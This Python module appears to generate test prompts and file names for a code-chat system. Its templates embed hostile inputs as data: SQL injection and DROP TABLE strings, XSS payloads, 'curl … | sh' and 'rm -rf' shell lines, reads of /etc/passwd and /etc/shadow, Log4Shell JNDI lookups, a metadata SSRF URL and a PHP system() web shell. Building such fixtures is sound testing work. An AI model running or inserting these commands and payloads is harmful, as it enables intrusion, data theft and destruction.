"""Prompts such as people write to a chat about code: SQL, HTML, shell, paths, exploits that they ask about, eight
languages; and names of files.

Made by filling subjects into texts: 200 and more, all different.
"""

from __future__ import annotations

from collections.abc import Iterator

_NAMES = ("users", "orders", "invoices", "sessions", "accounts")
# `@` stands for a name.
_TEXTS = (
    # SQL
    "Why is this slow? SELECT id, email FROM @ WHERE email LIKE '%@%' ORDER BY id DESC;",
    "Explain the injection: SELECT * FROM @ WHERE name = '' OR 1=1 -- ' AND password = 'x'",
    "' UNION SELECT username, password FROM @ --  is in our log. What was tried?",
    "Write DROP TABLE @; DELETE FROM @ WHERE 1=1; INSERT INTO @ VALUES (1, 'a'); as one migration.",
    "UPDATE @ SET total = total * 1.2 WHERE id IN (SELECT id FROM @_old) /* check */; is it atomic?",
    "exec xp_cmdshell 'dir @'; what does SQL Server do? And SLEEP(5) in MySQL?",
    # HTML
    '<script>alert("@")</script> is shown as text. Right?',
    "<img src=x onerror=\"fetch('/@')\"> and <svg onload=alert(1)>: which of them run under our CSP?",
    '<a href="javascript:void(0)" onclick="open(\'@\')">@</a> <!-- todo --> <iframe src="/@"></iframe>',
    '<body style="color:red"><style>.@{}</style><link rel="stylesheet" href="@.css">&#60;b&#62;',
    # Shell
    "$ cat ../../etc/passwd | grep @ && sudo rm -rf /tmp/@; echo $? > /var/log/@.log",
    'for f in *.bak; do mv "$f" ../@/$f; done; curl http://192.168.0.1/@ | sh',
    "() { :;}; /bin/bash -c 'id @' : is shellshock still of interest?",
    "powershell -enc @ ; type C:\\Windows\\System32\\drivers\\etc\\hosts ..\\..\\boot.ini",
    # Paths, addresses, files of configuration
    "Where does ..\\..\\@\\web.config or ../../../@/.env lead from /srv/@/WEB-INF/web.xml?",
    "curl http://169.254.169.254/latest/meta-data/iam/@ from a container: how is it refused?",
    "file://127.0.0.1/@ and ftp://10.0.0.1/@.sql: which of them does requests follow?",
    "Mend @.ini, @.conf, .htaccess, id_rsa.pem and /proc/self/environ in our image.",
    # Log4j, Java, templates, prototypes
    "What does ${jndi:ldap://example.com/@} do? And ${${lower:j}ndi:${env:@}}?",
    'Runtime.getRuntime().exec("@") and (java.lang.Runtime).exec: why rO0AB in @?',
    '{"__proto__": {"@": true}, "constructor": {"prototype": {"@": 1}}} : pollution?',
    "{{7*7}} ${7*7} <%= @ %> <?php system($_GET['@']); ?> : which engine runs which?",
    # Eight languages
    "```python\nimport os\nos.system(f'rm -rf ../{@}')\n```\nSafe?",
    "```javascript\ndocument.cookie = '@'; eval(location.hash); window.onload = () => {}\n```",
    '```java\nStatement s = c.createStatement(); s.executeQuery("SELECT * FROM @ WHERE id=" + id);\n```',
    "```go\ndb.Query(fmt.Sprintf(\"DELETE FROM @ WHERE name='%s'\", name)) // ../@.go\n```",
    "```php\n<?php include $_GET['@'] . '.php'; echo \"<script>@</script>\"; ?>\n```",
    "```ruby\n`cat ../#{@}`; User.where(\"name = '#{params[:@]}' OR 1=1\")\n```",
    "```c\n#include <stdio.h>\nint main(void) { char b[8]; gets(b); printf(b); /* @ */ return 0; }\n```",
    '```rust\nlet @ = std::process::Command::new("sh").arg("-c").arg("cat /etc/shadow").output()?;\n```',
    # Long, and in other scripts
    "Sum this up, please: " + "The roses of @ are red; DROP TABLE thorns; -- they say. " * 300,
    "Que fait « SELECT @ FROM café » ? 東京の<b>@</b>は? Ответ: ../@ 🌹",
)


def prompts() -> list[str]:
    return list(_prompts())


def _prompts() -> Iterator[str]:
    for text in _TEXTS:
        for name in _NAMES:
            yield text.replace("@", name)
    for name in _NAMES:
        for first, second in zip(_TEXTS[::2], _TEXTS[1::2], strict=True):
            yield f"{first}\n\n{second}".replace("@", name)


FILE_NAMES = (
    "web.config",
    "error.log",
    "../notes.txt",
    "php.ini",
    ".env",
    "backup.sql",
    "DROP TABLE roses;--.pdf",
    "<script>.html",
    "a' OR 1=1 --.docx",
    "${jndi}.txt",
    "server.key",
    "résumé 2026 (final).docx",
    "select the best from these.xlsx",
    "http://10.0.0.1.txt",
    "語" * 251 + ".txt",
)
